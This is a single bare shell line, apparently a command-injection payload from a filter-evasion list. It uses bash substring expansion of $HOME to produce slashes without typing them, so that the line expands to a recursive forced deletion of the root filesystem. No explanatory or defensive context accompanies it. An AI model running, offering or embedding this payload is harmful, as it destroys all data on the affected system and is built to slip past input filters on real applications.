${HOME:0:1}bin${HOME:0:1}rm -rf ${HOME:0:1}
